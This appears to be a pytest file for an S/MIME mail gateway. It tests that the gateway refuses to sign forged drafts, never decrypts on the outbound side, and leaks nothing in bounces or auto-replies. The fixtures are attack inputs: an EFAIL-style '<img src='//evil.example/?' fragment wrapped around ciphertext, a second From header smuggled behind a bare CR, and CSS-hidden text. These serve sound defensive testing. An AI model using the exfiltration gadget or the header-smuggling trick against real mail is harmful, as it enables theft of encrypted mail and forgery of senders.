"""The other way round: making our people sign, decrypt or report what a forger wants."""

import logging
from collections.abc import Callable

import pytest

from siegel.store.queries import journal, messages
from tests.flows.office import ALICE, BOB, HUBER, UNKNOWN, Office, mail, refusal
from tests.spoof.case import ATTACKER, SECRET, VICTIM
from tests.spoof.making import (
    FORGED,
    attached,
    blob,
    by_attacker,
    honest,
    html,
    opaque,
    parts,
    private,
    sealed,
)
from tests.spoof.making import mail as forged_mail
from tests.unit.smime import mails

SIGNED = b"multipart/signed"


def draft(entity: bytes, *, sender: str = ALICE.address, top: bytes = b"") -> bytes:
    head = f"From: <{sender}>\r\nTo: <{UNKNOWN}>\r\nSubject: AW: Anfrage\r\n".encode()
    return head + top + b"Message-ID: <a@office.example>\r\nMIME-Version: 1.0\r\n" + entity


def sent(office: Office) -> bytes:
    (one,) = office.out.sent
    return one.content


# signing what somebody else wrote


FOREIGN: list[tuple[str, Callable[[], bytes]]] = [
    ("signed by a partner", honest),
    ("signed by the attacker", by_attacker),
    ("signed opaquely", lambda: opaque(blob(FORGED, ATTACKER, detached=False))),
    ("encrypted by nobody knows whom", lambda: sealed(FORGED, ALICE)),
]


@pytest.mark.requirement("A57")
@pytest.mark.parametrize(
    "make", [make for _, make in FOREIGN], ids=[f"fail/{name}" for name, _ in FOREIGN]
)
def test_a_draft_that_is_somebody_s_protected_mail_gets_no_signature_of_ours(
    office: Office, make: Callable[[], bytes]
) -> None:
    raw = draft(make())
    assert office.send(raw, ALICE.address, UNKNOWN).code == 250
    assert sent(office).endswith(raw)
    assert journal.read()[0].reasons == ("already_protected",)


@pytest.mark.parametrize("make", [honest, by_attacker], ids=["fail/partner", "fail/attacker"])
def test_somebody_s_signed_part_inside_a_draft_never_becomes_the_writer_s_word(
    office: Office, make: Callable[[], bytes]
) -> None:
    """We vouch for the whole as our writer sent it; the part stays another's, and is said to be."""
    office.send(draft(parts("mixed", FORGED, make())), ALICE.address, UNKNOWN)
    found = mails.opened(sent(office))
    judgement = mails.judged(found)
    assert [one.signer.certificate for one in judgement.signers] == [mails.certificate("alice")]
    assert [(one.kind, one.path) for one in found.errant] == [("signed", "1.2")]
    assert "errant_layer" in judgement.findings


@pytest.mark.parametrize("style", ["display:none", "color:white", "position:absolute;left:-9999px"])
def test_what_a_draft_hides_with_css_is_signed_as_it_stands(office: Office, style: str) -> None:
    """Said on the page as not prevented: nothing is added, nothing taken away, the writer's program
    decides what it quotes. It is the writer's signature alone, over the whole."""
    hidden = f"<p>Gern.</p><blockquote style='{style}'>Ich kuendige.</blockquote>".encode()
    office.send(draft(html(hidden)), ALICE.address, UNKNOWN)
    found = mails.opened(sent(office))
    assert found.payload.decoded().strip() == hidden
    (signer,) = mails.judged(found).signers
    assert signer.signer.certificate == mails.certificate("alice")


UNENTITLED: list[tuple[str, str, str, bytes]] = [
    ("in a colleague's name", BOB.address, ALICE.address, b""),
    ("in a partner's name", VICTIM.address, ALICE.address, b""),
    ("without an envelope sender", ALICE.address, "", b""),
    ("with a second From", ALICE.address, ALICE.address, f"From: <{BOB.address}>\r\n".encode()),
    ("with a From behind a bare CR", ALICE.address, ALICE.address,
     f"X-A: b\rFrom: <{BOB.address}>\r\n".encode()),
]  # fmt: skip


@pytest.mark.parametrize(
    ("author", "envelope", "top"),
    [row[1:] for row in UNENTITLED],
    ids=[f"fail/{row[0]}" for row in UNENTITLED],
)
def test_nothing_is_signed_for_somebody_else(
    office: Office, author: str, envelope: str, top: bytes
) -> None:
    office.send(draft(FORGED, sender=author, top=top), envelope, UNKNOWN)
    assert all(SIGNED not in one.content for one in office.out.sent)


def test_mail_from_outside_that_claims_to_be_ours_is_not_signed_on_its_way_in(
    office: Office,
) -> None:
    raw = forged_mail(FORGED, sender=ALICE.address)
    office.receive(raw, ALICE.address, BOB.address)
    assert SIGNED not in office.into.sent[0].content
    assert office.out.sent == []


# answers, bounces and reports that carry home what was opened


QUOTED: list[tuple[str, Callable[[], bytes]]] = [
    ("a part of the answer", lambda: parts("mixed", FORGED, private())),
    ("an attached message", lambda: parts("mixed", FORGED, attached(private()))),
    ("between HTML", lambda: parts("mixed", html(b"<img src='//evil.example/?"), private())),
    ("the whole draft", private),
]


@pytest.mark.requirement("A65")
@pytest.mark.parametrize(
    "make", [make for _, make in QUOTED], ids=[f"fail/{name}" for name, _ in QUOTED]
)
def test_ciphertext_in_an_answer_leaves_as_it_came(
    office: Office, make: Callable[[], bytes], caplog: pytest.LogCaptureFixture
) -> None:
    """The outbound side never decrypts, whoever holds the key."""
    caplog.set_level(logging.DEBUG)
    office.send(draft(make()), ALICE.address, UNKNOWN)
    assert SECRET not in sent(office)
    assert SECRET.decode() not in f"{journal.read()!r}{caplog.text}"


def test_the_report_about_an_opened_mail_that_bounced_holds_nothing_of_it(office: Office) -> None:
    office.into.refuse[ALICE.address] = refusal(550)
    raw = forged_mail(private(), sender=VICTIM.address)
    office.receive(raw, VICTIM.address, ALICE.address, UNKNOWN)
    reports = [one for one in office.into.sent if one.sender == ""]
    assert [one.recipients for one in reports] == [(VICTIM.address,)]
    assert SECRET not in reports[0].content
    assert raw.partition(b"\r\n\r\n")[2][:76] not in reports[0].content


def test_a_refused_mail_is_answered_in_the_same_words_whether_it_could_be_opened(
    office: Office,
) -> None:
    office.into.refuse[ALICE.address] = refusal(550)
    replies = {
        office.receive(forged_mail(entity, sender=VICTIM.address), "", ALICE.address)
        for entity in (private(), private(BOB), sealed(FORGED, HUBER), FORGED)
    }
    assert len(replies) == 1
    assert all(one.sender != "" for one in office.into.sent)


def test_no_mail_of_ours_answers_a_report_or_a_robot(office: Office) -> None:
    report = parts("report", FORGED, attached(private()), more="; report-type=delivery-status")
    for top in (b"Auto-Submitted: auto-replied\r\n", b"X-Auto-Response-Suppress: All\r\n"):
        office.receive(forged_mail(report, top=top), "", ALICE.address)
    assert office.out.sent == []
    assert [one.recipients for one in office.into.sent] == [(ALICE.address,)] * 2
    assert not any(SECRET in one.content for one in office.into.sent)


def test_what_was_forged_teaches_no_certificate_and_no_program(office: Office) -> None:
    """Neither a stranger's certificate for our partner nor a weaker cipher."""
    office.partner(HUBER)
    office.receive(forged_mail(by_attacker()), VICTIM.address, ALICE.address)
    office.send(mail(ALICE.address, HUBER.address), ALICE.address, HUBER.address)
    found = mails.opened(sent(office), "huber")
    assert len(found.encrypted_layers[0].recipients) == 2  # Huber, and Alice's own copy
    assert mails.opened(sent(office), "dana").encrypted_layers[0].opened is False


def test_calendar_mail_and_winmail_are_handed_on_unopened(office: Office) -> None:
    for kind in (b"text/calendar; method=REQUEST", b"application/ms-tnef; name=winmail.dat"):
        entity = b"Content-Type: " + kind + b"\r\n\r\nBEGIN:VCALENDAR\r\n" + private()
        office.receive(forged_mail(entity), ATTACKER.address, ALICE.address)
        assert office.into.sent[-1].content.endswith(entity)
    assert messages.received_by(ALICE.address) == ()
